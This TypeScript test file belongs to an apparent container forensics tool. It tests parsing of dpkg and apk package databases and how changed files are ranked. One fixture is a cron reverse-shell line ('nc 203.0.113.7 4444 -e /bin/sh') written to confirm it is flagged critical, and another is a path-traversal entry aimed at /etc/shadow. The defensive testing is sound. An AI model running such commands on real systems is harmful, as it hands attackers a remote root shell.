import { createHash } from 'node:crypto';
import { mkdtemp } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CaseFolder } from '../../src/case/case-folder.js';
import { toVersion } from '../../src/case/stored-version.js';
import { evaluateChange } from '../../src/findings/change-rules.js';
import {
  databaseFileAt,
  DatabaseReader,
  dpkgRecordOf,
  parseMd5sumsLine,
  usrMergedPath,
  type LineDatabaseFile,
  type ListedFile,
} from '../../src/packages/package-db.js';
import { judgePackageFile, PackageIndex } from '../../src/packages/package-index.js';
import type { StoredVersion } from '../../src/report/change.js';
import type { PackageEvidence } from '../../src/report/package.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const read = (file: LineDatabaseFile, text: string) => {
  const reader = new DatabaseReader(file);
  const listed: ListedFile[] = [];
  for (const line of text.split('\n')) {
    const found = reader.line(line);
    if (found) listed.push(found);
  }
  reader.end();
  return { listed, packages: [...reader.packages] };
};

describe('package database files', () => {
  it('knows dpkg md5sums (with a multi-arch suffix), file lists, the status file and the apk database', () => {
    expect(databaseFileAt('/var/lib/dpkg/info/libc6:amd64.md5sums')).toEqual({
      manager: 'dpkg',
      kind: 'md5sums',
      package: 'libc6',
    });
    expect(databaseFileAt('/var/lib/dpkg/status')?.kind).toBe('status');
    expect(databaseFileAt('/lib/apk/db/installed')?.manager).toBe('apk');
    // The file list names links too (issue 27); maintainer scripts list nothing.
    expect(databaseFileAt('/var/lib/dpkg/info/bash.list')?.kind).toBe('list');
    expect(databaseFileAt('/var/lib/dpkg/info/bash.postinst')).toBeUndefined();
    expect(databaseFileAt('/var/lib/dpkg/info/x/../y.md5sums')).toBeUndefined();
  });

  it('reads md5sums lines as absolute paths and skips lines that do not parse or climb', () => {
    expect(parseMd5sumsLine('7210080490f9fd139c1b44fa0f730988  bin/bash', 'bash')).toEqual({
      path: '/bin/bash',
      manager: 'dpkg',
      package: 'bash',
      algorithm: 'md5',
      digest: '7210080490f9fd139c1b44fa0f730988',
    });
    expect(
      parseMd5sumsLine('7210080490f9fd139c1b44fa0f730988  ../../etc/shadow', 'x'),
    ).toBeUndefined();
    expect(parseMd5sumsLine('not-a-sum  bin/bash', 'x')).toBeUndefined();
    expect(parseMd5sumsLine('7210080490f9fd139c1b44fa0f730988 bin/bash', 'x')).toBeUndefined();
  });

  it("reads conffiles and installed packages from dpkg's status, not those only configured", () => {
    const status = [
      'Package: adduser',
      'Status: install ok installed',
      'Version: 3.134',
      'Conffiles:',
      ' /etc/adduser.conf cc3493ecd2d09837ffdcc3e25fdfff18',
      ' /etc/deluser.conf newconffile',
      'Description: add and remove users',
      ' This package includes /etc/not-a-conffile 11a06baf8245fd8d690b99024d228c1f',
      '',
      'Package: gone',
      'Status: deinstall ok config-files',
      'Version: 1',
      'Conffiles:',
      ' /etc/gone.conf 11a06baf8245fd8d690b99024d228c1f obsolete',
    ].join('\n');
    const { listed, packages } = read({ manager: 'dpkg', kind: 'status' }, status);
    expect(listed.map((l) => `${l.package} ${l.path} ${l.isConffile} ${l.digest}`)).toEqual([
      'adduser /etc/adduser.conf true cc3493ecd2d09837ffdcc3e25fdfff18',
      'adduser /etc/deluser.conf true ',
      'gone /etc/gone.conf true 11a06baf8245fd8d690b99024d228c1f',
    ]);
    expect(packages).toEqual(['adduser 3.134']);
  });

  it("reads apk's installed database: folder, file and Q1 (base64 SHA-1) or hex MD5 checksum", () => {
    const installed = [
      'C:Q1abc=',
      'P:busybox',
      'V:1.36.1-r5',
      'F:bin',
      'R:busybox',
      'a:0:0:755',
      'Z:Q1Ho0B9uE7IAbHbWv/1+F3xdUV2y8=',
      'R:sh',
      'Z:Q1short',
      'R:old',
      'Z:0123456789abcdef0123456789abcdef',
      '',
    ].join('\n');
    const { listed, packages } = read({ manager: 'apk', kind: 'installed' }, installed);
    expect(listed).toEqual([
      {
        path: '/bin/busybox',
        manager: 'apk',
        package: 'busybox',
        algorithm: 'sha1',
        digest: Buffer.from('Ho0B9uE7IAbHbWv/1+F3xdUV2y8=', 'base64').toString('hex'),
      },
      {
        path: '/bin/old',
        manager: 'apk',
        package: 'busybox',
        algorithm: 'md5',
        digest: '0123456789abcdef0123456789abcdef',
      },
    ]);
    expect(packages).toEqual(['busybox 1.36.1-r5']);
  });

  it("names the package of dpkg's records, and the conffile of a .dpkg-new copy", () => {
    expect(dpkgRecordOf('/var/lib/dpkg/info/roundcube-core.postinst')).toBe('roundcube-core');
    expect(dpkgRecordOf('/var/lib/dpkg/info/libc6:amd64.list')).toBe('libc6');
    expect(dpkgRecordOf('/var/lib/dpkg/info/x/y.postinst')).toBeUndefined();
    expect(dpkgRecordOf('/var/lib/dpkg/status')).toBeUndefined();
    const index = new PackageIndex(
      ['/etc/cron.d/rc.dpkg-new', '/etc/cron.d/other.dpkg-new'],
      false,
    );
    index.add('container', {
      path: '/etc/cron.d/rc',
      manager: 'dpkg',
      package: 'rc',
      algorithm: 'md5',
      digest: 'a'.repeat(32),
      isConffile: true,
    });
    expect(index.lookup('/etc/cron.d/rc.dpkg-new').container?.package).toBe('rc');
    expect(index.lookup('/etc/cron.d/other.dpkg-new')).toEqual({});
  });

  it('maps /bin, /sbin and /lib to /usr on a merged-/usr system, and nothing else', () => {
    expect(usrMergedPath('/bin/ls')).toBe('/usr/bin/ls');
    expect(usrMergedPath('/lib64/ld-linux-x86-64.so.2')).toBe('/usr/lib64/ld-linux-x86-64.so.2');
    expect(usrMergedPath('/binaries/x')).toBe('/binaries/x');
    expect(usrMergedPath('/etc/bin/x')).toBe('/etc/bin/x');
  });
});

describe('judging a changed file against its package', () => {
  const md5 = (s: string) => createHash('md5').update(s).digest('hex');
  const setup = async (content: string, over: Partial<StoredVersion['meta']> = {}) => {
    const root = await mkdtemp(path.join(os.tmpdir(), 'coroner-pkg-'));
    const folder = await CaseFolder.create(path.join(root, 'case'));
    const record = await folder.writeBuffer('current/x', Buffer.from(content), 'test', false);
    const current = toVersion(fileMeta({ sizeBytes: content.length, ...over }), record);
    return { folder, current };
  };
  const listing = (p: string, digest: string): ListedFile => ({
    path: p,
    manager: 'dpkg',
    package: 'coreutils',
    algorithm: 'md5',
    digest,
  });

  it('finds a file listed at /bin/id at /usr/bin/id on a merged-/usr image, and says it matches', async () => {
    const { folder, current } = await setup('ELF id');
    const index = new PackageIndex(['/usr/bin/id'], true);
    index.add('image', listing('/bin/id', md5('ELF id')));
    const e = await judgePackageFile(index, folder, '/usr/bin/id', 'C', current);
    expect(e).toMatchObject({ verdict: 'matches', database: 'image', package: 'coreutils' });
  });

  it('says a file differs, and that the container database was rewritten to match it', async () => {
    const { folder, current } = await setup('trojan');
    const index = new PackageIndex(['/usr/bin/id'], false);
    index.add('image', listing('/usr/bin/id', md5('ELF id')));
    index.add('container', listing('/usr/bin/id', md5('trojan')));
    const e = await judgePackageFile(index, folder, '/usr/bin/id', 'C', current);
    expect(e).toMatchObject({
      verdict: 'differs',
      actual: md5('trojan'),
      isInContainerDatabase: true,
    });
  });

  it('names the package of a conffile dpkg has not configured, without a verdict', async () => {
    const { folder, current } = await setup('*/5 * * * * www-data php gc.php\n');
    const index = new PackageIndex(['/etc/cron.d/rc'], false);
    index.add('container', { ...listing('/etc/cron.d/rc', ''), isConffile: true });
    const e = await judgePackageFile(index, folder, '/etc/cron.d/rc', 'A', current);
    expect(e).toMatchObject({ package: 'coreutils', verdict: 'unchecked', isConffile: true });
    expect(e?.note).toMatch(/not configured yet/);
  });

  it("judges a link apk lists by its target (apk's checksum of a link is of the target's text)", async () => {
    // As apk-tools writes it for Alpine's /etc/mtab: mode 777, the SHA-1 of "/proc/mounts".
    const { listed } = read(
      { manager: 'apk', kind: 'installed' },
      'P:alpine-baselayout\nV:3.2.0-r6\nF:etc\nR:mtab\na:0:0:777\nZ:Q1kiljhXXH1LlQroHsEJIkPZg2eiw=\n',
    );
    const index = new PackageIndex(['/etc/mtab'], false);
    index.add('image', listed[0]!);
    const root = await mkdtemp(path.join(os.tmpdir(), 'coroner-pkg-'));
    const folder = await CaseFolder.create(path.join(root, 'case'));
    const link = (target: string): StoredVersion => ({
      meta: fileMeta({ type: 'symlink', mode: 0o777, linkTarget: target }),
    });
    expect(
      await judgePackageFile(index, folder, '/etc/mtab', 'C', link('/proc/mounts')),
    ).toMatchObject({ verdict: 'matches', package: 'alpine-baselayout' });
    expect(
      await judgePackageFile(index, folder, '/etc/mtab', 'C', link('/tmp/.x/mounts')),
    ).toMatchObject({ verdict: 'differs', note: expect.stringMatching(/now a link/) });
    // dpkg lists regular files only: a file turned into a link differs.
    const dpkg = new PackageIndex(['/usr/bin/id'], false);
    dpkg.add('image', listing('/usr/bin/id', md5('ELF id')));
    expect(await judgePackageFile(dpkg, folder, '/usr/bin/id', 'C', link('/tmp/id'))).toMatchObject(
      { verdict: 'differs' },
    );
  });

  it('does not claim a verdict on a copy cut at the content cap, and keeps no path it was not asked for', async () => {
    const { folder, current } = await setup('partial');
    const index = new PackageIndex(['/usr/bin/id'], false);
    index.add('image', listing('/usr/bin/id', md5('partial')));
    index.add('image', listing('/usr/bin/other', md5('partial')));
    expect(index.size).toBe(1);
    const cut = { ...current, content: { ...current.content!, isTruncated: true } };
    const e = await judgePackageFile(index, folder, '/usr/bin/id', 'C', cut);
    expect(e?.verdict).toBe('unchecked');
    expect(e?.note).toMatch(/content cap/);
    expect(await judgePackageFile(index, folder, '/usr/bin/id', 'D', undefined)).toMatchObject({
      verdict: 'deleted',
    });
  });
});

describe('package rules', () => {
  const evidence = (over: Partial<PackageEvidence>): PackageEvidence => ({
    manager: 'dpkg',
    package: 'coreutils',
    database: 'image',
    algorithm: 'md5',
    expected: 'a'.repeat(32),
    actual: 'b'.repeat(32),
    verdict: 'differs',
    ...over,
  });
  const changed = (p: string, e: PackageEvidence, over = {}) => ({
    ...addedFile(p, undefined, { kind: 'C' as const, original: fileMeta(), ...over }),
    package: e,
  });

  it('ranks a modified package binary high as a compromised binary (debsums), a modified data file medium', () => {
    const bin = evaluateChange({ ...changed('/usr/bin/id', evidence({})), currentType: 'elf' });
    expect(bin.find((f) => f.rule === 'package-modified')).toMatchObject({
      severity: 'high',
      attack: 'T1554',
    });
    const doc = evaluateChange(changed('/usr/share/doc/x/README', evidence({})));
    expect(doc[0]).toMatchObject({ rule: 'package-modified', severity: 'medium' });
  });

  it('leaves a conffile the administrator changed to the other rules', () => {
    const f = evaluateChange(changed('/etc/adduser.conf', evidence({ isConffile: true })));
    expect(f.some((x) => x.rule === 'package-modified')).toBe(false);
  });

  it("ranks a file that differs but matches the container's rewritten database medium, not high", () => {
    const f = evaluateChange({
      ...changed('/usr/bin/id', evidence({ isInContainerDatabase: true })),
      currentType: 'elf',
    });
    expect(f.find((x) => x.rule === 'package-modified')?.severity).toBe('medium');
  });

  it('lowers a systemd unit a package installed in the container to low, naming the package', () => {
    const unit = '/usr/lib/systemd/system/acme.service';
    const facts = {
      ...addedFile(unit, '[Service]\nExecStart=/usr/bin/acme\n'),
      package: evidence({ database: 'container', verdict: 'matches', package: 'acme' }),
    };
    const f = evaluateChange(facts);
    expect(f.find((x) => x.rule === 'systemd')).toMatchObject({ severity: 'low' });
    expect(f[0]!.reason).toMatch(/dpkg package acme \(per the container's own package database\)/);
    // The same unit with no package behind it stays high.
    expect(
      evaluateChange(addedFile(unit, '[Service]\nExecStart=/usr/bin/acme\n'))[0]?.severity,
    ).toBe('high');
  });

  it('never lowers what the content says: a packaged cron job with a reverse shell stays critical', () => {
    const f = evaluateChange({
      ...addedFile('/etc/cron.d/acme', '* * * * * root nc 203.0.113.7 4444 -e /bin/sh\n'),
      package: evidence({ database: 'container', verdict: 'matches', isConffile: true }),
    });
    expect(f[0]).toMatchObject({ rule: 'reverse-shell', severity: 'critical' });
  });

  it("does not lower a package's binary whose owner changed, though its bytes are the package's", () => {
    const f = evaluateChange(
      changed('/usr/bin/passwd', evidence({ verdict: 'matches' }), {
        current: fileMeta({ uid: 1000 }),
      }),
    );
    expect(f.find((x) => x.rule === 'system-binary')?.severity).toBe('high');
  });

  it("lowers a maintainer script of a package installed in the container, not one added to the image's", () => {
    const script = '#!/bin/sh\nset -e\nsystemctl daemon-reload || true\n';
    const installedHere = evaluateChange({
      ...addedFile('/var/lib/dpkg/info/acme.postinst', script),
      recordOfPackageInstalledHere: 'acme',
    });
    expect(installedHere[0]).toMatchObject({ rule: 'package-hook', severity: 'low' });
    expect(installedHere[0]!.reason).toMatch(/dpkg's record of package acme/);
    const planted = evaluateChange(addedFile('/var/lib/dpkg/info/coreutils.postrm', script));
    expect(planted[0]).toMatchObject({ rule: 'package-hook', severity: 'high' });
  });

  it('lists the packages installed inside the container on the status file', () => {
    const f = evaluateChange({
      ...addedFile('/var/lib/dpkg/status', 'Package: acme-agent\n', {
        kind: 'C',
        original: fileMeta(),
      }),
      packagesInstalledInContainer: ['acme-agent 1.2'],
    });
    expect(f[0]).toMatchObject({ rule: 'packages-installed', severity: 'medium' });
    expect(f[0]!.reason).toMatch(/acme-agent 1\.2/);
  });
});
